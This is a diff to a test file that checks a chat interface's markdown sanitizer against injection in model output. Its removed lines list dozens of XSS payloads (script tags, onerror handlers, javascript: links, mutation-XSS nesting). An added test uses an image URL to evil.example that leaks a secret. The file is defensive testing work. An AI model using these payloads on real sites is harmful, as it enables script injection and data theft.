@@ -1,64 +1,36 @@
 import { describe, expect, it } from "vitest";
 
+import revealCases from "../../tests/fixtures/reveal_cases.json";
+import xssPayloads from "../../tests/fixtures/xss_payloads.json";
+
 import { isSafeUrl, markdownToHtml, renderMarkdownInto, sanitizeHtml } from "../src/chat/markdown";
+import { reveal } from "../src/chat/reveal";
 import { createChatView } from "../src/chat/view";
 import type { ChatState } from "../src/types";
 import { FakeModel } from "./fake-model";
 import { chatState, interaction, message, textPart, toolPart, userMessage } from "./fixtures";
 
-// Injection strings model output might carry, raw and wrapped in markdown constructs.
-const CORPUS = [
-  "<script>alert(1)</script>",
-  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-  "<img src=x onerror=alert(1)>",
-  '<img src="x" onerror="alert(1)"/>',
-  "<svg onload=alert(1)>",
-  "<svg><script>alert(1)</script></svg>",
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<div style="width: expression(alert(1))">x</div>',
-  "<style>body{background:url(javascript:alert(1))}</style>",
-  '<a href="javascript:alert(1)">click</a>',
-  "[click](javascript:alert(1))",
-  "[click](JaVaScRiPt:alert(1))",
-  "[click](java\tscript:alert(1))",
-  "[click](&#106;avascript:alert(1))",
-  "[click](&#x6A;avascript&#58;alert(1))",
-  "[click](vbscript:msgbox(1))",
-  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-  '![x" onerror="alert(1)](https://example.com/a.png)',
-  "![x](javascript:alert(1))",
-  "<javascript:alert(1)>",
-  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
-  '<details open ontoggle=alert(1)>',
-  '<body onload=alert(1)>',
-  '<input autofocus onfocus=alert(1)>',
-  '<form action="javascript:alert(1)"><button>go</button></form>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
-  "```html\n<script>alert(1)</script>\n```",
-  "`<img src=x onerror=alert(1)>`",
-  "[link](https://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
-  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-  '<link rel="import" href="https://evil.example">',
-  '<base href="javascript:alert(1)//">',
-];
+// Injection strings model output might carry, raw and wrapped in markdown constructs: the one corpus the
+// kernel's tests (tests/test_inert_output.py) read too.
+const CORPUS: string[] = xssPayloads.payloads;
+const REVEAL_CASES: { input: string; expected: string }[] = revealCases.cases;
 
 /** Every way the corpus could become live content: returns a list of problems found. */
 function problems(root: ParentNode): string[] {
   const found: string[] = [];
   for (const el of Array.from(root.querySelectorAll("*"))) {
     const tag = el.tagName.toLowerCase();
-    if (["script", "iframe", "object", "embed", "style", "form", "meta", "link", "base", "frame"].includes(tag)) {
+    const active = ["script", "iframe", "object", "embed", "style", "form", "meta", "link", "base", "frame"];
+    // Anything that fetches by itself: a remote image is a data leak even without script.
+    const loading = ["img", "picture", "source", "video", "audio", "svg", "math"];
+    if (active.includes(tag) || loading.includes(tag) || (tag === "input" && el.getAttribute("type") === "image")) {
       found.push(`<${tag}>`);
     }
     for (const attr of Array.from(el.attributes)) {
       if (/^on/i.test(attr.name)) found.push(`${tag}[${attr.name}]`);
-      if (["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"].includes(attr.name.toLowerCase())) {
+      if (["src", "srcset", "background", "poster", "ping"].includes(attr.name.toLowerCase())) {
+        found.push(`${tag}[${attr.name}=${attr.value}]`);
+      } else if (["href", "action", "formaction", "xlink:href", "data", "srcdoc"].includes(attr.name.toLowerCase())) {
         const value = attr.value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
         if (!/^(https?:|mailto:)/.test(value)) found.push(`${tag}[${attr.name}=${attr.value}]`);
       }
@@ -69,14 +41,31 @@ function problems(root: ParentNode): string[] {
 }
 
 describe("sanitizing model output", () => {
-  it("has a corpus of at least 20 injection strings", () => {
-    expect(CORPUS.length).toBeGreaterThanOrEqual(20);
+  it("has the shared corpus of at least 60 injection strings", () => {
+    expect(CORPUS.length).toBeGreaterThanOrEqual(60);
+  });
+
+  it("shows images as links naming the host, never loading them", () => {
+    const target = document.createElement("div");
+    renderMarkdownInto(target, "![chart](https://evil.example/leak?d=SECRET) ![x](data:image/png;base64,AA)");
+    expect(target.querySelector("img")).toBeNull();
+    const link = target.querySelector<HTMLAnchorElement>("a.hn-image-link")!;
+    expect(link.getAttribute("href")).toBe("https://evil.example/leak?d=SECRET");
+    expect(link.textContent).toBe("[image: chart from evil.example]");
+    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(target.textContent).toContain("![x](data:image/png;base64,AA)");
+  });
+
+  it.each(REVEAL_CASES)("reveal matches the kernel: %j", ({ input, expected }) => {
+    expect(reveal(input)).toBe(expected);
   });
 
   it("the checker flags live content (it is not vacuous)", () => {
     const raw = document.createElement("div");
     raw.innerHTML = '<img src=x onerror=alert(1)><a href="javascript:alert(1)">a</a><iframe></iframe><p style="x">';
-    expect(problems(raw)).toEqual(["img[src=x]", "img[onerror]", "a[href=javascript:alert(1)]", "<iframe>", "p[style]"]);
+    expect(problems(raw)).toEqual([
+      "<img>", "img[src=x]", "img[onerror]", "a[href=javascript:alert(1)]", "<iframe>", "p[style]",
+    ]);
   });
 
   it.each(CORPUS)("second layer alone (DOMPurify on raw HTML): %s is neutralised", (source) => {
